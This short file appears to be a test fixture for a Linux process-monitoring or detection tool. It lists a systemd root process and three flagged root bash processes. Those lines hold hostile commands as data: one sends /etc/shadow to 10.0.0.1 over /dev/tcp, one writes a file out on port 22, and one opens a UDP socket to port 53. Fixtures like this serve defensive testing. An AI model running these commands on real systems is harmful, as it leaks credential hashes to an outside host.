os linux
1 0 root systemd /usr/lib/systemd/systemd | /sbin/init
+ 401 1 root - /usr/bin/bash | bash -c cat /etc/shadow > /dev/tcp/10.0.0.1/80
+ 402 1 root - /usr/bin/bash | bash -c </dev/tcp/localhost/22; cat x >/dev/tcp/10.0.0.1/22
+ 403 1 root - /usr/bin/bash | bash -c exec 3<>/dev/udp/10.0.0.1/53
